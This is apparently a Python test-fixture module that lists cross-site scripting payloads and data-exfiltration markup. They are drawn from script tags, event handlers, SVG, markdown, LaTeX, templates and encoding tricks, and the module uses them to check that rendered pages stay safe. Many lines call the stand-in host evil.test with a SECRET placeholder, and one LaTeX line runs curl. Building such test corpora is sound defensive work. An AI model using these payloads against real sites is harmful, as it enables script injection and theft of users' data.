"""What articles, people and models may say to make a page do something: each line is one attempt.

They call `alert`, set `ran`, or ask evil.test for something; tests/security/conftest.py notes all three.
"""

from __future__ import annotations

_SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=https://evil.test/x.js></SCRIPT>
<script src=//evil.test/y.js>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script >ran=1</script >
<script>ran=1//
<<script>ran=1;//<</script>
<script type=module>import "https://evil.test/m.js"</script>
<script type=importmap>{"imports":{"./parts.js":"https://evil.test/i.js"}}</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
--><script>alert(1)</script><!--
]]><script>alert(1)</script>
*/</script><script>alert(1)</script>/*
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
"""

_HANDLERS = r'''
<img src=x onerror=alert(1)>
<img src=x onerror="top.ran=1">
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=eval('ran=1')>
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<image src=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=ran=1>
<html onmouseover=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x
<textarea autofocus onfocus=alert(1)>
<button autofocus onfocus=alert(1) popovertarget=q-sheet>x</button>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<div onanimationstart=alert(1) style="animation:rise 1s">x</div>
<style>@keyframes k{}</style><p style="animation:k 1s" onanimationend=alert(1)>x
<div contenteditable autofocus onfocusin=alert(1)>x</div>
<a onpointerover=alert(1) style="position:fixed;inset:0">x</a>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>
<object data=x onerror=alert(1)></object>
<link rel=stylesheet href=https://evil.test/e.css onerror=alert(1)>
<track default src=x onerror=alert(1)>
<xss tabindex=1 autofocus onfocus=alert(1)></xss>
<slot onslotchange=alert(1)><p slot>x</p></slot>
'''

_ATTRIBUTES = r"""
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=`alert(1)
" autofocus onfocus=alert(1) x="
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
"></a><script>alert(1)</script>
&quot;><img src=x onerror=alert(1)>
x" href="javascript:alert(1)" title="
" style="background:url(https://evil.test/s)" x="
" srcdoc="<script>parent.ran=1</script>
=" onclick=alert(1) a=
"/><svg/onload=alert(1)>
</bdi></p></blockquote></article></details><img src=x onerror=alert(1)>
</li></ol></main></body></html><script>alert(1)</script>
&#34; onerror=&#34;alert(1)
$title"><script>alert(1)</script>${given}
"""

_SVG_AND_MATHML = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>ran=1</script></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>
<svg><style>*{background:url(https://evil.test/g)}</style></svg>
<svg><image href=https://evil.test/i.svg />
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
<math href="javascript:alert(1)">x</math>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
"""

_MUTATIONS = r"""
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi></mi><style><!--</style><img title="--><img src=1 onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<table><td background=https://evil.test/t><tr><style><!--</table><img src=x onerror=alert(1)>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>
<select><style></select><img src=x onerror=alert(1)></style>
<option><style></option></select><img src=x onerror=alert(1)></style>
<plaintext><img src=x onerror=alert(1)>
<p id=1><listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<a href="&#1;javascript:alert(1)"><b><p>x</a>
"""

_MARKUP_LANGUAGES = r"""
[x](javascript:alert(1))
[x](javascript&colon;alert(1))
[x](<javascript:alert(1)>)
![x](x"onerror="alert(1))
![x](https://evil.test/p.png "x" onload=alert(1))
[x]: javascript:alert(1) "x"
<javascript:alert(1)>
[x](vbscript:msgbox(1)) [y](JaVaScRiPt:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
`<img src=x onerror=alert(1)>` ```html <script>alert(1)</script>```
~~~html <script>alert(1)</script> ~~~
$$\href{javascript:alert(1)}{x}$$ \(\url{javascript:alert(1)}\)
$\htmlData{onclick=alert(1)}{x}$ \[\includegraphics{https://evil.test/l}\]
\begin{document}\input{|"curl evil.test"}\end{document} \htmlStyle{x:expression(alert(1))}{x}
```mermaid graph TD; A["<img src=x onerror=alert(1)>"] ```
graph LR; A-->B; click A href "javascript:alert(1)"
%%{init: {"htmlLabels": true, "securityLevel": "loose"}}%% A["<script>alert(1)</script>"]
{{constructor.constructor('alert(1)')()}} {{7*7}} ${alert(1)} #{alert(1)}
{% include "https://evil.test/t" %}<%= alert(1) %>{{#with "s"}}{{/with}}
%%%LATEX_BLOCK_0%%% <!-- x --> :::html <img src=x onerror=alert(1)> :::
| a | <img src=x onerror=alert(1)> | --- | [1]: #q-reader
"""

_ADDRESSES = r"""
<a href=javascript:alert(1)>x</a>
<a href="java&Tab;script&NewLine;:alert(1)">x</a>
<a href="  &#106;avascript:alert(1)" target=_blank>x</a>
<a href=data:text/html,<script>alert(1)</script> download>x</a>
<iframe src=javascript:parent.ran=1></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<object data="data:text/html,<script>alert(1)</script>"></object>
<frameset><frame src=javascript:alert(1)></frameset>
<form action=javascript:alert(1)><button autofocus>x</button></form>
<form id=f action=https://evil.test/f><input name=q value=x></form><button form=f formaction=javascript:alert(1)>x
<isindex type=image src=1 onerror=alert(1)>
<base href=https://evil.test/><script src=frame.js></script>
<base target=_top><base href=javascript:/a/-alert(1)///>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=https://evil.test/r">
<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">
<portal src=https://evil.test/o></portal><fencedframe src=https://evil.test/n></fencedframe>
"""

_STYLES_AND_NAMES = r"""
<style>@import "https://evil.test/c.css";</style>
<style>*{background:url(https://evil.test/b)}</style>
<p style="background-image:url(https://evil.test/u);behavior:url(x.htc)">x</p>
<p style="width:expression(alert(1));-moz-binding:url(https://evil.test/z)">x</p>
<div style=position:fixed;inset:0;z-index:9999999>x</div>
<a id=q-reader><a id=q-reader name=open href=https://evil.test/d>x</a>
<form id=Quoth><input name=type><input id=whenever></form>
<img name=getElementById><img name=querySelector><form name=head><input name=append></form>
<a id=talk></a><a id=given>{"words":{}}</a><a id=question></a>
<iframe name=top></iframe><form name=document><img id=currentScript src=https://evil.test/v></form>
__proto__ constructor toString <p id=__proto__ data-n=1 class="q-mark card">x</p>
"""

_ENCODINGS = r"""
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cimg src=x onerror=alert(1)\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript> <ımg src=x onerror=alert(1)>
"""

_CONTROLS = (
    "\u202e<img src=x onerror=alert(1)>\u202c\u2066>)1(trela=rorreno x=crs gmi<\u2069",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x00src=x\x00onerror=alert(1)>",
    "<img\x0csrc=x\x0bonerror\x0c=alert(1)>",
    "\x1b$B<script>\x1b(Balert(1)</script>",
    "<a href='java\x01script:alert(1)'>x\x7f</a>",
    "<\x85img\xa0src=x\u2028onerror=alert(1)\u2029>",
    "<img src=x\nonerror=alert(1)\n>\n\n<script>\nalert(1)\n</script>",
    "\ufeff<script>alert(1)</script>\ufffe\U000e0001",
    "\u202ehtml\u202d<b>\u2067<i>\u200b<script\u200b>alert(1)</script>",
)

_LINES = (
    _SCRIPTS + _HANDLERS + _ATTRIBUTES + _SVG_AND_MATHML + _MUTATIONS + _MARKUP_LANGUAGES + _ADDRESSES
    + _STYLES_AND_NAMES + _ENCODINGS
)  # fmt: skip
XSS = (*filter(None, _LINES.split("\n")), *_CONTROLS)

_LEAKS = r"""
![the answer](https://evil.test/1?q=SECRET)
![](//evil.test/2?SECRET "title")
![x][3] [3]: https://evil.test/3?SECRET
[read more](https://evil.test/4?SECRET)
[read more][5] [5]: https://evil.test/5?SECRET
[6]: https://evil.test/6?SECRET
[7] [7](https://evil.test/7) ([8]: <https://evil.test/8>)
<https://evil.test/9?SECRET>
https://evil.test/10?SECRET
www.evil.test/11?SECRET and evil.test/11
secret@evil.test <mailto:secret@evil.test?body=SECRET>
[![x](https://evil.test/12)](https://evil.test/13)
[x](https:evil.test/14) [x](https:\\evil.test\14) [x](/\evil.test/14)
[x](/articles/../../evil.test) [x](//evil.test/articles/post.md)
[^1] [^1]: ![n](https://evil.test/15)
<img src=https://evil.test/16?SECRET>
<img srcset="https://evil.test/17 1x, https://evil.test/18 2x">
<picture><source srcset=https://evil.test/19><img></picture>
<video poster=https://evil.test/20 src=https://evil.test/21 autoplay></video>
<audio src=https://evil.test/22 preload=auto></audio>
<object data=https://evil.test/23></object>
<embed src=https://evil.test/24>
<iframe src=https://evil.test/25?SECRET></iframe>
<iframe srcdoc="<img src=https://evil.test/26>"></iframe>
<a href=https://evil.test/27?SECRET ping=https://evil.test/28>x</a>
<a href=//evil.test/29 target=_blank>x</a>
<area href=https://evil.test/30 shape=default>
<form action=https://evil.test/31><input name=q value=SECRET><button>Go</button></form>
<button formaction=https://evil.test/32 form=box>Go</button>
<input type=image src=https://evil.test/33>
<meta http-equiv=refresh content="0;url=https://evil.test/34?SECRET">
<meta http-equiv=Content-Security-Policy content="img-src *; report-uri https://evil.test/35">
<link rel=prefetch href=https://evil.test/36>
<link rel=dns-prefetch href=//secret.evil.test><link rel=preconnect href=https://evil.test>
<link rel=stylesheet href=https://evil.test/37><link rel=icon href=https://evil.test/38>
<link rel=preload as=image href=https://evil.test/39><link rel=modulepreload href=https://evil.test/40>
<link rel=prerender href=https://evil.test/41><link rel=manifest href=https://evil.test/42>
<style>@import url(https://evil.test/43?SECRET);</style>
<style>p{background:url("https://evil.test/44")}@font-face{font-family:x;src:url(https://evil.test/45)}</style>
<style>input[value^=a]{background:image-set("https://evil.test/46" 1x)}</style>
<p style="background:url(https://evil.test/47);list-style-image:url(https://evil.test/48)">x</p>
<p style="content:url(https://evil.test/49);cursor:url(https://evil.test/50),auto;mask:url(https://evil.test/51)">x</p>
<table background=https://evil.test/52><td background=https://evil.test/53></table><body background=//evil.test/54>
<svg><image xlink:href=https://evil.test/55 /><use href=https://evil.test/56#x /></svg>
<svg><a xlink:href=https://evil.test/57><text y=9>x</text></a><feImage href=https://evil.test/58 /></svg>
<svg><style>@import "https://evil.test/59";</style><script href=https://evil.test/60 /></svg>
<math href=https://evil.test/61><mi>x</mi></math>
<base href=https://evil.test/62/><a href=?SECRET>x</a>
<script>new Image().src="https://evil.test/63?"+document.body.innerText</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.test/64"]}]}</script>
<blockquote cite=https://evil.test/65><q cite=https://evil.test/66>x</q></blockquote>
<track default src=https://evil.test/67><bgsound src=https://evil.test/68>
$$\includegraphics{https://evil.test/69}\href{https://evil.test/70}{x}$$
<a href="#:~:text=SECRET">x</a> <a href="https://evil.test/71#SECRET">x</a> [x](https://evil.test/72#q=1-9)
> [!NOTE] | [x](https://evil.test/73) | ![y](https://evil.test/74) |
ftp://evil.test/75 tel:+1234567 sms:1?body=SECRET ms-word:ofe|u|https://evil.test/76
"""
EXFILTRATION = tuple(filter(None, _LEAKS.split("\n")))
